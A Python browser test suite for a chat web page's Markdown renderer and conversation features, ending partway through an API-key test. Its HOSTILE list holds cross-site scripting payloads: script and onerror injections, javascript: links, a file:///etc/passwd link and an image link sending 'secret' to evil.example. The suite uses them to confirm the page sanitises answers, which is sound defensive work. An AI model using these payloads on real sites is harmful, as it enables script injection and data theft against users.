#!/usr/bin/env python3
"""The chat page in a headless Chromium, against tests/page_mock.py; once against the real server, where there is one.

    tests/test_page.py [TEST...]       all, or these of main()'s; so does TS_PAGE_TESTS

TS_PAGE_SHOTS=FOLDER keeps screenshots there, to look at; else none are made."""
import json
import os
import random
import re
import subprocess
import sys
import threading
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from cli_tool import ENV, TESSERA, Folder, check, done, run  # noqa: E402
from devtools import ALT, SHIFT, Browser, Page, chromium  # noqa: E402
from page_mock import SHOWCASE, THOUGHTS, Mock, content, pieces  # noqa: E402

SHOTS = os.environ.get("TS_PAGE_SHOTS")
IDLE = "!document.querySelector('[aria-busy=true]') && !document.querySelector('#send[aria-label=Stop]')"


def shot(page, name):
    if SHOTS:
        page.screenshot(os.path.join(SHOTS, name + ".png"))


class Tab(Page):
    """A tab with storage of its own, on the mock's page."""

    def __init__(self, browser, mock, expected=(), **size):
        self.context = browser.call("Target.createBrowserContext")["browserContextId"]
        super().__init__(browser, context=self.context, **size)
        self.expected = expected
        self.mock = mock
        self.go(mock.url)

    def __enter__(self):
        check(self.until("document.querySelector('#list')?.childElementCount"), "the page doesn't start", self.errors)
        return self

    def __exit__(self, kind, *_):
        if kind:
            shot(self, "failed")
        check(not self.errors, "errors on the page:", self.errors)
        self.close()
        self.browser.call("Target.disposeBrowserContext", browserContextId=self.context)

    def reload(self):
        super().reload()
        check(self.until("!document.querySelector('#main').inert"), "the page doesn't start again", self.errors)

    def write(self, text):
        """Types into the message, which may not be shown yet: the plan goes away in a task of its own."""
        check(self.until("(document.querySelector('#message').focus(), document.activeElement.id === 'message')"),
              "nothing can be typed into the message:", self.focus())
        self.text(text)

    def say(self, text, wait=True):
        n = len(self.mock.requests)
        self.write(text)
        self.key("Enter")
        if wait:
            self.idle(text)
            check(len(self.mock.requests) > n, "no request came for", text)

    def idle(self, what=""):
        check(self.until(IDLE), "no end of the answer to", what)

    def last(self):
        """The last answer's text; what was never in sight has no innerText yet."""
        return self.js("(() => { const e = [...document.querySelectorAll('.assistant .markdown')].at(-1);"
                       "return e?.innerText || e?.textContent; })()")

    def note(self):
        return self.js("[...document.querySelectorAll('.assistant')].at(-1)?.querySelector('.note p')?.textContent") or ""

    def count(self, selector):
        return self.js(f"document.querySelectorAll({json.dumps(selector)}).length")

    def focus(self):
        return self.js("document.activeElement.id || document.activeElement.getAttribute('aria-label') ||"
                       "document.activeElement.textContent.slice(0, 40)")


# ---- Markdown ----

# What a text becomes. Attributes that are the same everywhere are left out.
MARKDOWN = [
    ("a\nb", "<p>a<br>b</p>"),
    ("a\n\nb", "<p>a</p><p>b</p>"),
    ("# a #\n## b\n###### c\n####### d", "<h3>a</h3><h4>b</h4><h6>c</h6><p>####### d</p>"),
    ("#a", "<p>#a</p>"),
    ("a\n===\nb\n---", "<h3>a</h3><h4>b</h4>"),
    ("a\n\n---\n\n* * *", "<p>a</p><hr><hr>"),
    ("*a* **b** ***c*** _d_ __e__", "<p><em>a</em> <strong>b</strong> <em><strong>c</strong></em> <em>d</em>"
     " <strong>e</strong></p>"),
    ("**a*b*c**", "<p><strong>a<em>b</em>c</strong></p>"),
    ("snake_case_name 2*3*4 a * b", "<p>snake_case_name 2<em>3</em>4 a * b</p>"),
    ("**a", "<p>**a</p>"),
    ("*a **b* c**", "<p><em>a <em><em>b</em> c</em></em></p>"),
    ("~~a~~ ~b~", "<p><del>a</del> ~b~</p>"),
    ("`a` ``b`c`` `*d*` `e", "<p><code>a</code> <code>b`c</code> <code>*d*</code> `e</p>"),
    ("\\*a\\* \\a \\`", "<p>*a* \\a `</p>"),
    ("a &lt;b&gt; &amp; &#65; &#x42; &nope; &#0;", "<p>a &lt;b&gt; &amp; A B &amp;nope; �</p>"),
    ("[a](http://x.org)", "<p><a href=\"http://x.org/\">a</a></p>"),
    ("[*a* `b`](https://x.org/(c)d \"t\") e", "<p><a href=\"https://x.org/(c)d\"><em>a</em> <code>b</code></a> e</p>"),
    ("[a](<http://x.org/b c>)", "<p><a href=\"http://x.org/b%20c\">a</a></p>"),
    ("[a [b](http://x.org) c](http://y.org)", "<p>[a <a href=\"http://x.org/\">b</a> c](<a href=\"http://y.org/\">"
     "http://y.org</a>)</p>"),
    ("![a](http://x.org/i.png)", "<p><a href=\"http://x.org/i.png\">Image: a</a></p>"),
    ("[a](/b) [c](javascript:d) [e](data:f)", "<p>[a](/b) [c](javascript:d) [e](data:f)</p>"),
    ("<https://x.org> <mailto:a@b.c> <javascript:a> <b>", "<p><a href=\"https://x.org/\">https://x.org</a>"
     " <a href=\"mailto:a@b.c\">mailto:a@b.c</a> &lt;javascript:a&gt; &lt;b&gt;</p>"),
    ("(see https://x.org/a_(b)). **https://y.org**", "<p>(see <a href=\"https://x.org/a_(b)\">https://x.org/a_(b)</a>)."
     " <strong><a href=\"https://y.org/\">https://y.org</a></strong></p>"),
    ("- a\n- b\n\n  c\n- d", "<ul><li><p>a</p></li><li><p>b</p><p>c</p></li><li><p>d</p></li></ul>"),
    ("3. a\n4. b", "<ol start=\"3\"><li><p>a</p></li><li><p>b</p></li></ol>"),
    ("1. a\n   - b\n     - c\n2. d", "<ol><li><p>a</p><ul><li><p>b</p><ul><li><p>c</p></li></ul></li></ul></li>"
     "<li><p>d</p></li></ol>"),
    ("1. a\n  - b", "<ol><li><p>a</p><ul><li><p>b</p></li></ul></li></ol>"),
    ("- a\nb", "<ul><li><p>a<br>b</p></li></ul>"),
    ("a\n- b\n1986. c", "<p>a</p><ul><li><p>b</p></li></ul><ol start=\"1986\"><li><p>c</p></li></ol>"),
    ("a\n1986. c", "<p>a<br>1986. c</p>"),
    ("- [ ] a\n- [x] b", "<ul><li class=\"has-task\"><span class=\"task\">☐</span><p>a</p></li>"
     "<li class=\"has-task\"><span class=\"task\">☑</span><p>b</p></li></ul>"),
    ("> a\n> > b\n> - c\n\nd", "<blockquote><p>a</p><blockquote><p>b</p></blockquote><ul><li><p>c</p></li></ul>"
     "</blockquote><p>d</p>"),
    ("|a|b|\n|-|:-:|\n|c|`d\\|e`|\n|f|\n\ng", "<table><thead><tr><th>a</th><th class=\"center\">b</th></tr></thead>"
     "<tbody><tr><td>c</td><td class=\"center\"><code>d|e</code></td></tr><tr><td>f</td></tr></tbody></table><p>g</p>"),
    ("a | b\n--|--\nc | d", "<table><thead><tr><th>a</th><th>b</th></tr></thead><tbody><tr><td>c</td><td>d</td></tr>"
     "</tbody></table>"),
    ("a | b\n--|--|--", "<p>a | b<br>--|--|--</p>"),
    ("```c\nint x;\n\n  <b>\n```\na", "<pre>c: int x;\n\n  &lt;b&gt;</pre><p>a</p>"),
    ("```\na\n``\n~~~\n````", "<pre>text: a\n``\n~~~</pre>"),
    ("~~~ js x\na", "<pre>js: a</pre>"),
    ("- a\n  ```\n  b\n    c\n  ```\n- d", "<ul><li><p>a</p><pre>text: b\n  c</pre></li><li><p>d</p></li></ul>"),
    ("    a\n\n      b\nc", "<pre>text: a\n\n  b</pre><p>c</p>"),
    ("<script>x</script>\n<b onclick=x>", "<p>&lt;script&gt;x&lt;/script&gt;<br>&lt;b onclick=x&gt;</p>"),
    ("a  \nb\\\nc", "<p>a<br>b<br>c</p>"),
    ("\u3000\tä *ß*\r\nc\rd", "<p>ä <em>ß</em><br>c<br>d</p>"),
    ("", ""),
]

# The nodes as text: what all have in common is left out, code is one <pre>.
BARE = """
window.bare = (e) => {
    const copy = e.cloneNode(true);
    for (const c of copy.querySelectorAll('.code')) {
        const pre = document.createElement('pre');
        pre.textContent = c.querySelector('.code-head span').textContent + ': ' + c.querySelector('code').textContent;
        c.replaceWith(pre);
    }
    for (const t of copy.querySelectorAll('.table')) t.replaceWith(...t.childNodes);
    for (const x of copy.querySelectorAll('*'))
        for (const a of [...x.attributes])
            if (!['href', 'start'].includes(a.name) && !(a.name === 'class' && a.value)) x.removeAttribute(a.name);
    return copy.innerHTML;
};
"""

HOSTILE = [
    "<script>pwned = 1</script>",
    "<img src=x onerror=pwned=1><svg onload=pwned=1><iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "[a](javascript:pwned=1) [b](JaVaScRiPt:pwned=1) [c](java\tscript:pwned=1) [d](&#106;avascript:pwned=1)",
    "[a](<javascript:pwned=1>) [b](\x01javascript:pwned=1) [c](data:text/html,<script>pwned=1</script>)",
    "[a](vbscript:x) [b](file:///etc/passwd) [c](blob:x) [d](//evil.example) [e](/v1/models) [f](#c=1)",
    "![x](http://127.0.0.1:1/leak.png) ![y](javascript:pwned=1) ![](https://evil.example/a?q=secret)",
    "<https://x.org/\"onmouseover=\"pwned=1> http://x.org/\"onmouseover=pwned=1 https://x.org/'><script>pwned=1</script>",
    "[a](http://x.org \"t\" onclick=pwned=1) [b](http://x.org/\"onclick=\"pwned=1)",
    "```\"><script>pwned=1</script>\n</code></pre><script>pwned=1</script>\n```",
    "```js onload=pwned=1 \" autofocus onfocus=pwned=1\nx\n```",
    "| <img src=x onerror=pwned=1> | b |\n|---|---|\n| <script>pwned=1</script> | [x](javascript:pwned=1) |",
    "# <style>*{display:none}</style><link rel=stylesheet href=http://127.0.0.1:1/x.css><base href=http://evil>",
    "<form action=javascript:pwned=1><button id=send name=body>x</button></form><input autofocus onfocus=pwned=1>",
    "<div id=messages></div><a name=getElementById></a><meta http-equiv=refresh content='0;url=http://evil'>",
    "\u202e evil \u2066 text \u0000 \ufffe \ud83d\ude00 <\u0000script>pwned=1</script>",
    "{{constructor.constructor('pwned=1')()}} ${pwned=1} javascript:pwned=1",
]

# Each grows with n; rendering takes time in proportion to it.
LARGE = {
    "quotes": "'> '.repeat(n) + 'a'", "lists": "'- '.repeat(n) + 'a'", "brackets": "'['.repeat(n)",
    "links": "'[a](b'.repeat(n)", "closed brackets": "'['.repeat(n) + ']'.repeat(n)",
    "nested links": "'['.repeat(n) + '](http://x.org)'.repeat(n)", "stars": "'*'.repeat(n)",
    "opened": "'*a '.repeat(n)", "closed": "'a* '.repeat(n)", "both": "'a**b'.repeat(n)", "mixed": "'*a _b '.repeat(n)",
    "nested": "'**a '.repeat(n) + ' b**'.repeat(n)", "deep": "'*_'.repeat(n) + 'a' + '_*'.repeat(n)",
    "thirds": "'***a** b* '.repeat(n)", "tildes": "'~~a ~ ~~~b '.repeat(n)",
    "ticks": "Array.from({length: Math.sqrt(2 * n) | 0}, (_, i) => '`'.repeat(i + 1)).join(' ')", "tick": "'`a'.repeat(n)",
    "urls": "'http://'.repeat(n)", "urls of parens": "'http://a' + '('.repeat(n)", "url and parens": "'http://a(' + ')'.repeat(n)",
    "destinations": "'[a](<b'.repeat(n)", "titles": "'[a](http://b \\\"c'.repeat(n)", "spaces": "'a' + ' '.repeat(n) + 'b'",
    "hashes": "'#'.repeat(n)", "heading": "'# ' + ' #'.repeat(n) + ' a'", "rules": "'- '.repeat(n) + 'a'",
    "tabs": "'\\t'.repeat(n) + 'a'", "entities": "'&#'.repeat(n)", "angles": "'<'.repeat(n)", "autos": "'<http://'.repeat(n)",
    "table": "'|a'.repeat(n) + '\\n' + '|-'.repeat(n) + '\\n' + 'a\\n'.repeat(n)", "rows": "'a|b\\n-|-\\n' + 'c|d\\n'.repeat(n)",
    "fences": "'```\\n'.repeat(n)", "items": "'- a\\n'.repeat(n)", "blanks": "'- a\\n' + '\\n'.repeat(n)",
    "blanks between": "'- a\\n\\n\\n\\n'.repeat(n)", "quoted": "'> a\\n'.repeat(n)", "deeper": "Array.from({length: Math.sqrt(n) | 0}, (_, i) => ' '.repeat(2 * i) + '- a').join('\\n')",
    "lines": "'a\\n'.repeat(n)", "dashes": "'a\\n-\\n'.repeat(n)", "paragraphs": "'a\\n\\n'.repeat(n)",
    "bangs": "'!['.repeat(n) + 'a'", "escapes": "'\\\\['.repeat(n)",
}


def markdown(browser, mock):
    with Tab(browser, mock) as t:
        t.js("import('/page/markdown.js').then((m) => { window.md = m; })")
        t.js(BARE)
        t.js("window.html = (text) => { const e = document.createElement('div'); md.render(e, text); return bare(e); }")
        for text, want in MARKDOWN:
            got = t.js(f"html({json.dumps(text)})")
            check(got == want, "Markdown", repr(text), "gives", got, "not", want)

        # as it comes in, in pieces of any size, it gives the same; what is final stays the same node
        t.js("""window.grow = (text, sizes) => {
            const e = document.createElement('div'), told = [];
            const s = new md.Stream(e, (node) => told.push(node));
            let at = 0, moved = 0;
            for (const n of sizes) {
                at += n;
                if (at >= text.length) break;
                s.set(text.slice(0, at));
                for (const node of told) if (!e.contains(node)) moved++;
            }
            s.end(text);
            const all = [...e.childNodes];
            const order = told.length === all.length && told.every((node, i) => node === all[i]);
            return { html: bare(e), moved, order };
        }""")
        rng = random.Random(1)
        texts = [text for text, _ in MARKDOWN] + HOSTILE + [SHOWCASE] + [
            "- a\n-", "- a\n--", "- a\n---", "- a\n\n2", "1. a\n2. b\n3", "a\n-\n", "x\n=", "a|b\n-|-\n", "```\na\n``", "- a\n- b\n\nc\n- d",
            "1. a\n\n   b\n2. c\n   ```\n   d\n   ```\n3. e", "```\n\n\na\n\n```\n\n```\nb", "   ```\n   a\n  b\n c\n   ```\nd"]
        alphabet = ["a", "b c", "*", "**", "_", "`", "```", "~~~", "\n", "\n\n", "- ", "1. ", "> ", "# ", "|", "|-|\n", "---", "===", "[", "](http://x.org)",
                    "  ", "    ", "\t", "\r\n", "\\", "<", "&amp;", "- [ ] ", "ä", "😀"]
        texts += ["".join(rng.choice(alphabet) for _ in range(rng.randrange(5, 60))) for _ in range(400)]
        for text in texts:
            want = t.js(f"html({json.dumps(text)})")
            for most in (1, 3, 20):
                sizes = [rng.randint(1, most) for _ in range(len(text) + 1)]
                got = t.js(f"grow({json.dumps(text)}, {sizes})")
                if not (got["html"] == want and got["moved"] == 0 and got["order"]):
                    check(False, "growing", repr(text), "by", most, got, "not", want)
                    break
            else:
                check(True)

        # no text takes more than time in proportion to its length
        for name, make in LARGE.items():
            times = []
            for n in (6000, 48000):
                code = (f"(() => {{ const n = {n}, text = {make}, e = document.createElement('div');"
                        "const began = performance.now(); md.render(e, text); const ms = performance.now() - began;"
                        "let depth = 0; const walk = document.createTreeWalker(e, NodeFilter.SHOW_ELEMENT);"
                        "for (let i = 0; i < 2000 && walk.nextNode(); i++) { let d = 0; for (let x = walk.currentNode; x !== e; x = x.parentNode) d++;"
                        "depth = Math.max(depth, d); } return [ms, depth]; })()")
                times.append(t.js(code, timeout=100))
            check(times[1][0] < 1000 or times[1][0] < 30 * times[0][0], "Markdown of", name, "isn't linear:", times)
            check(times[1][1] < 80, "Markdown of", name, "nests too deep:", times)
            # and the whole of it can be laid out
        t.js("(() => { const n = 5000, e = document.createElement('div'); document.body.append(e);"
             + "".join(f"md.render(e, {make});" for make in LARGE.values()) + "e.offsetHeight; e.remove(); })()", timeout=200)


def hostile(browser, mock):
    with Tab(browser, mock) as t:
        seen = len(mock.paths)
        for text in [*HOSTILE, "\n\n".join(HOSTILE)]:
            for reply in (content(text, 3), [{"reasoning_content": text}, {"content": "x"}],
                          [{"tool_calls": [{"index": 0, "id": text, "function": {"name": text, "arguments": text}}]}],
                          ("error", 500, text), ("said", [], text)):
                t.expected = ("500",)
                mock.next.append(reply)
                t.say(text)
                mock.next.clear()
        time.sleep(0.3)
        check(t.js("typeof pwned") == "undefined", "something of an answer ran")
        check(t.js("location.href.startsWith(%s)" % json.dumps(mock.url)), "the page went away")
        names = t.js("[...new Set([...document.querySelectorAll('#messages *')].map((e) => e.localName))].sort()")
        known = {"article", "h2", "div", "p", "a", "code", "pre", "span", "button", "svg", "use", "details", "summary", "strong", "em",
                 "br", "table", "thead", "tbody", "tr", "th", "td", "h3", "h4", "h5", "h6", "ul", "ol", "li", "blockquote", "hr", "del"}
        check(set(names) <= known, "elements that can't come of Markdown:", set(names) - known)
        attributes = t.js("[...new Set([...document.querySelectorAll('#messages *')].flatMap((e) => [...e.attributes].map((a) => a.name)))]")
        check(not [a for a in attributes if a.startswith("on") or a in ("src", "srcdoc", "style", "id", "name", "action", "formaction")],
              "attributes:", attributes)
        links = t.js("[...document.querySelectorAll('#messages a')].map((a) => [a.href, a.rel, a.target, a.protocol])")
        check(links and all(p in ("http:", "https:", "mailto:") and "noopener" in r and target == "_blank" for _, r, target, p in links),
              "links:", [l for l in links if l[3] not in ("http:", "https:", "mailto:")], links[:3])
        check({p for p in mock.paths[seen:] if not p.startswith("/page/")} <= {"/v1/chat/completions", "/v1/models", "/props"}, "asked for:", set(mock.paths[seen:]))
        # titles and names of a file that was imported
        evil = {"format": "tessera-chats", "version": 1, "conversations": [
            {"title": HOSTILE[1], "head": 1, "settings": {"system": HOSTILE[0], "sampling": {"seed": 7, "x": "y"}},
             "messages": [{"n": 0, "parent": -1, "role": "user", "content": HOSTILE[1]},
                          {"n": 1, "parent": 0, "role": "assistant", "content": HOSTILE[2], "error": HOSTILE[0]}]}]}
        give_file(t, json.dumps(evil))
        check(t.until("document.querySelector('#title').textContent.includes('<img')"), "an imported title")
        check(t.js("typeof pwned") == "undefined" and t.count("#list img, #title img, .system script") == 0, "an imported title ran")


def give_file(t, text):
    """As if a file with this text had been chosen to be imported."""
    t.js("(() => { const d = new DataTransfer(); d.items.add(new File([%s], 'a.json'));"
         "const i = document.querySelector('#import-file'); i.files = d.files; i.dispatchEvent(new Event('change')); })()" % json.dumps(text))


# ---- conversations ----

def answers(browser, mock):
    with Tab(browser, mock) as t:
        check(t.until("document.querySelector('#model').textContent === 'mock-30b-a3b-q4_0 · context 8,192'"), "the model's name")
        check(wait_for(lambda: t.focus() == "message"), "the message has the focus, not", t.focus())
        t.say("echo *Hello* there")
        check(t.last() == "Hello there", t.last())
        check(t.js("document.title") == "echo *Hello* there · Tessera", t.js("document.title"))
        body = mock.requests[-1]
        check(body == {"messages": [{"role": "user", "content": "echo *Hello* there"}], "stream": True,
                       "stream_options": {"include_usage": True}}, "what was asked:", body)
        stats = t.js("document.querySelector('.stats').textContent")
        check(re.fullmatch(r"answer 4 tokens, [\d,.]+ tok/s · prompt \d+ tokens, 2,000 tok/s · context \d+ of 8,192", stats), stats)
        check(t.js("document.querySelector('#heard').innerText").strip() == "Hello there", "what is read out:",
              t.js("document.querySelector('#heard').innerText"))
        check(t.focus() == "message", "after an answer the focus is on", t.focus())

        # new lines don't send; what is typed is sent as it is
        t.text("a")
        t.key("Enter", SHIFT)
        t.text("  <b>")
        t.key("Enter")
        t.idle()
        check(mock.requests[-1]["messages"][-1]["content"] == "a\n  <b>", mock.requests[-1])
        check(mock.requests[-1]["messages"][1] == {"role": "assistant", "content": "*Hello* there"}, mock.requests[-1])
        t.key("Enter")
        t.text("   ")
        t.key("Enter")
        check(len(mock.requests) > 1 and t.count(".user") == 2, "nothing was sent as a message")
        t.js("document.querySelector('#message').value = ''")

        # streaming: it shows before it is complete, with the speed; Esc stops and the server sees it
        gone = mock.cancelled
        mock.delay = 0.005
        t.say("slow", wait=False)
        check(t.until("document.querySelector('[aria-busy=true] .markdown')?.innerText.includes('20 ')"), "no stream:", t.last())
        check(t.until("/^[\\d,]+ tokens · [\\d,.]+ tok\\/s$/.test(document.querySelector('[aria-busy=true] .stats').textContent)"),
              "no live speed:", t.js("document.querySelector('[aria-busy=true] .stats').textContent"))
        check(t.js("document.querySelector('#send').getAttribute('aria-label')") == "Stop", "the button stops now")
        shot(t, "streaming")
        # no other answer can be asked for meanwhile, and what is being edited isn't lost
        check(t.js("[...document.querySelectorAll('[data-edit], [data-again]')].every((b) => b.disabled)"), "buttons during an answer")
        n = len(mock.requests)
        t.key("r", ALT)
        t.key("u", ALT)
        check(len(mock.requests) == n and t.count(".editing") == 0, "asked during an answer")
        t.key("Escape")
        t.idle()
        check(t.js("[...document.querySelectorAll('[data-edit], [data-again]')].every((b) => !b.disabled)"), "buttons after it")
        n = len(t.last())
        check("Stopped." in t.note() and n > 40, t.note())
        check(wait_for(lambda: mock.cancelled == gone + 1), "the server still makes the answer")
        time.sleep(0.1)
        check(len(t.last()) == n, "it goes on after it was stopped")
        # the same with the button
        t.say("slow", wait=False)
        t.until("document.querySelector('[aria-busy=true] .markdown')?.innerText.includes('5 ')")
        t.click("#send")
        t.idle()
        check("Stopped." in t.note() and wait_for(lambda: mock.cancelled == gone + 2), "the button stops")
        mock.delay = 0.001

        # what was stopped is part of what is asked next
        t.say("echo go on")
        check(mock.requests[-1]["messages"][-2]["content"].startswith("0 1 2 "), mock.requests[-1]["messages"][-2])

        # again: another version, the first one is still there
        mock.next.append(content("Another one"))
        t.click(".assistant:last-child [data-again]")
        t.idle()
        check(t.last() == "Another one" and mock.requests[-1]["messages"][-1]["content"] == "echo go on", t.last())
        check(t.js("document.querySelector('.assistant:last-child .versions').innerText.trim()") == "2 of 2", "versions")
        t.click(".assistant:last-child .versions button")
        check(t.until("document.querySelector('.assistant:last-child .markdown').innerText === 'go on'"), t.last())
        check(t.js("document.querySelector('.assistant:last-child .versions').innerText.trim()") == "1 of 2", "versions")
        t.reload()
        check(t.until("document.querySelector('.assistant:last-child .markdown')?.innerText === 'go on'"), "the version after a reload", t.last())

        # the store is slow, and the page is drawn between an answer's end and its being kept
        t.js("""new Promise((ok) => { const r = indexedDB.open('tessera'); r.onsuccess = () => { window.hold = true;
            const s = r.result.transaction(['conversations', 'messages'], 'readwrite').objectStore('messages');
            const turn = () => { if (hold) s.count().onsuccess = turn; }; turn(); ok(); }; })""")
        mock.next.append(content("Only once"))
        t.say("slow store", wait=False)
        check(t.until("[...document.querySelectorAll('.markdown')].at(-1)?.textContent === 'Only once'"), t.last())
        time.sleep(0.1)
        t.js("document.querySelector('#system').dispatchEvent(new Event('input'))")
        time.sleep(0.1)
        t.js("window.hold = false")
        t.idle()
        check(t.last() == "Only once", t.last())

        # edit and send again
        t.click(".user [data-edit]")
        check(t.focus() == "Edit your message", t.focus())
        t.key("Escape")
        check(t.count(".editing") == 0 and t.focus() == "Edit and send again", "Esc leaves editing", t.focus())
        t.click(".user [data-edit]")
        t.js("document.activeElement.select()")
        t.text("echo edited")
        t.key("Enter")
        t.idle()
        check(t.last() == "edited" and t.count(".message") == 2 and len(mock.requests[-1]["messages"]) == 1, t.last())
        t.click(".user .versions button")
        check(t.until("document.querySelectorAll('.user').length === 6"), "the conversation before the edit is still there",
              t.count(".user"))


def wait_for(what, seconds=5):
    end = time.time() + seconds
    while time.time() < end:
        if what():
            return True
        time.sleep(0.02)
    return False


def kinds(browser, mock):
    """Thoughts, calls, code, settings."""
    with Tab(browser, mock) as t:
        t.say("think about it")
        check(t.last() == "It is so." and t.js("document.querySelector('.thoughts').open") is False, "thoughts are folded")
        check(re.fullmatch(r"Thought for [\d.]+ s", t.js("document.querySelector('.thoughts summary').innerText")), "how long it thought")
        t.click(".thoughts summary")
        check(t.js("document.querySelector('.thoughts p').innerText") == THOUGHTS.rstrip("\n") or
              t.js("document.querySelector('.thoughts p').textContent") == THOUGHTS, "thoughts")
        t.say("echo more")
        check("reasoning" not in json.dumps(mock.requests[-1]) and mock.requests[-1]["messages"][1]["content"] == "It is so.",
              "thoughts aren't sent back", mock.requests[-1])

        t.say("call it")
        check(t.js("document.querySelector('.call').textContent") ==
              'Calls get_weather{\n  "city": "Bern",\n  "unit": "°C"\n}', t.js("document.querySelector('.call').textContent"))
        check(t.js("JSON.parse(document.querySelector('.call pre').textContent).unit") == "°C", "arguments of a call")
        t.say("echo after")
        check(mock.requests[-1]["messages"][-2]["tool_calls"][0]["function"]["arguments"] == '{"city": "Bern", "unit": "°C"}',
              mock.requests[-1]["messages"][-2])

        # code: copied as it came
        code = "".join(f"line {i}\n" for i in range(250))
        mock.next.append(content(f"```\n{code}```\ntext", 50))
        t.say("code")
        check(t.count(".chunk") == 3, "chunks of code:", t.count(".chunk"))
        t.browser.call("Browser.grantPermissions", permissions=["clipboardReadWrite", "clipboardSanitizedWrite"],
                       browserContextId=t.context)
        t.click(".code [data-copy]")
        check(t.until("document.querySelector('.code [data-copy]').innerText === 'Copied'"), "Copy says so")
        check(t.js("navigator.clipboard.readText()") == code.rstrip("\n"), "what was copied")
        t.js("Object.defineProperty(navigator, 'clipboard', { value: undefined, configurable: true })")
        t.click(".assistant:last-child .foot [data-copy]")
        t.js("delete navigator.clipboard")
        check(t.js("navigator.clipboard.readText()") == f"```\n{code}```\ntext", "the answer, copied where there is no navigator.clipboard")

        # settings: sent if set, kept, taken over by a new chat
        t.key("s", ALT)
        check(t.js("document.querySelector('#settings').open") and t.js("document.querySelector('#s-top_k').placeholder") == "40"
              and t.js("document.querySelector('#s-temperature').placeholder") == "0.8", "the server's defaults are shown")
        for name, value in (("system", "Be *short*."), ("s-temperature", "0"), ("s-top_p", "0.5"), ("s-top_k", "7"), ("s-min_p", "0.1"),
                            ("s-max_tokens", "3"), ("s-seed", "42"), ("s-repeat_penalty", "1.1"), ("s-frequency_penalty", "-0.5"),
                            ("s-presence_penalty", "0.25")):
            t.js(f"document.querySelector('#{name}').focus()")
            t.text(value)
        t.js("document.querySelector('#thinking').focus()")
        t.key("o")
        t.key("f")
        t.js("document.querySelector('#tools-part').open = true; document.querySelector('#tools').focus()")
        t.text('[{"type": "function", "function": {"name": "f", "parameters": {}}}]')
        shot(t, "settings")
        t.key("Escape")
        check(not t.js("document.querySelector('#settings').open"), "Esc closes the settings")
        check("system prompt · thinking off · 9 sampling settings changed · tools" == t.js("document.querySelector('#status').innerText"),
              t.js("document.querySelector('#status').innerText"))
        t.key("n", ALT)
        check(t.until("!document.querySelector('.message')"), "a new chat is empty")
        t.say("echo one two three four")
        body = mock.requests[-1]
        check(body["messages"][0] == {"role": "system", "content": "Be *short*."}, body)
        check({k: v for k, v in body.items() if k not in ("messages", "stream", "stream_options")} ==
              {"temperature": 0, "top_p": 0.5, "top_k": 7, "min_p": 0.1, "max_tokens": 3, "seed": 42, "repeat_penalty": 1.1,
               "frequency_penalty": -0.5, "presence_penalty": 0.25, "chat_template_kwargs": {"enable_thinking": False},
               "tools": [{"type": "function", "function": {"name": "f", "parameters": {}}}]}, body)
        check("limit of tokens" in t.note() and t.count(".system") == 1, t.note())
        # what isn't valid is said and not sent
        t.key("s", ALT)
        t.js("document.querySelector('#s-top_p').select()")
        t.text("1.5")
        check(t.js("document.querySelector('#w-top_p').innerText") != "" and
              t.js("document.querySelector('#s-top_p').getAttribute('aria-invalid')") == "true", "a wrong number is said")
        t.js("document.querySelector('#tools').select()")
        t.text("[{")
        check("JSON" in t.js("document.querySelector('#tools-wrong').innerText"), "wrong tools are said")
        t.key("Escape")
        t.say("echo x")
        check("top_p" not in mock.requests[-1] and "tools" not in mock.requests[-1], mock.requests[-1])
        t.key("s", ALT)
        t.click("#settings-reset")
        t.key("Escape")
        t.say("echo y")
        check(set(mock.requests[-1]) == {"messages", "stream", "stream_options"} and
              mock.requests[-1]["messages"][0]["role"] == "user", mock.requests[-1])


def failures(browser, mock):
    with Tab(browser, mock) as t:
        t.expected = ("429", "400", "500", "ERR_CONNECTION_REFUSED", "ERR_INCOMPLETE_CHUNKED", "401")
        t.say("busy")
        check("The server is busy. All 4 slots" in t.note() and re.search(r"wait [123] second", t.note()), t.note())
        check(t.js("document.activeElement.id") == "message" and t.count(".retry") == 1, "retry")
        shot(t, "busy")
        check(t.until("document.querySelector('.note').innerText.includes('may have time now')"), t.note())
        mock.next.append(content("Now it had time"))
        t.click(".retry")
        t.idle()
        check(t.last() == "Now it had time" and t.count(".versions") == 0 and not t.note(), t.last(), t.note())

        t.say("context")
        check("doesn’t fit the model’s context" in t.note() and "9001" in t.note() and "8192" in t.note(), t.note())
        t.say("and now?")
        t.say("cut")
        check("The connection broke" in t.note() and t.last() == "This answer never gets to its", t.note(), t.last())
        mock.next.append(content("Whole."))
        t.click(".assistant:last-child .retry")
        t.idle()
        check(t.last() == "Whole." and t.js("document.querySelector('.assistant:last-child .versions').innerText.trim()") == "2 of 2",
              "beside the broken one:", t.last())
        t.say("fail")
        check("The GPU is out of memory." in t.note() and t.last() == "Half of", t.note(), t.last())
        mock.next.append(("error", 500, "Something broke"))
        t.say("x")
        check("Something broke." in t.note(), t.note())
        # an unanswered question and the next one are one message: the roles take turns
        t.say("echo y")
        check(mock.requests[-1]["messages"][-1]["content"] == "x\n\necho y", mock.requests[-1]["messages"][-1])

        # the server is gone, the conversation isn't
        t.js("window.realFetch = fetch; window.fetch = (u, o) => realFetch('http://127.0.0.1:1/' + u, o)")
        t.expected += ("Content Security Policy", "Refused to connect", "violates")
        t.say("hello?", wait=False)
        check(t.until("document.querySelector('.assistant:last-child .note')?.innerText.includes('can’t be reached')"), t.note())
        t.js("window.fetch = realFetch")
        n = t.count(".message")
        t.reload()
        check(t.until(f"document.querySelectorAll('.message').length === {n}") and "can’t be reached" in t.note(), "after a reload", t.note())
        mock.next.append(content("Back again"))
        t.click(".assistant:last-child .retry")
        t.idle()
        check(t.last() == "Back again", t.last())

        # the page is left in the middle of an answer
        mock.delay = 0.01
        t.say("slow", wait=False)
        t.until("document.querySelector('[aria-busy=true] .markdown')?.innerText.includes('30 ')")
        t.reload()
        check(t.until("document.querySelector('.assistant:last-child .note')?.innerText.includes('cut off')"), t.note())
        check(t.last().startswith("0 1 2"), "what had come is kept:", t.last())
        mock.delay = 0.001


def keys(browser, mock):
    """The API key."""
    mock.key = "sesame"
    with Tab(browser, mock, expected=("401",)) as t:
        check(t.until("document.querySelector('#ask-key').open") and t.focus() == "key", "the page asks for the key", t.focus())
        shot(t, "key")
        t.text("wrong")
        t.key("Enter")
        check(t.until("document.querySelector('#ask-key-why').innerText.includes('doesn’t accept')"), "a wrong key is said")
        t.text("ключ")
        t.key("Enter")
        check(t.until("document.querySelector('#ask-key-why').innerText.includes('characters')"), "a key that can't be one is said")
        t.text("sesame")
        t.key("Enter")
